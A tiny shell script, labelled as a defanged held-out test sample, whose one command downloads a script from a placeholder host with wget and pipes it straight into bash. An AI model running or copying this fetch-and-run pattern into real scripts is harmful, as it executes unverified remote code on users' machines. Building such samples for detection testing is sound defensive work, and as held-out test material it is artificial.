#!/bin/sh
# DEFANGED held-out test sample
set -e
wget -qO- https://get.example.invalid/bootstrap | bash
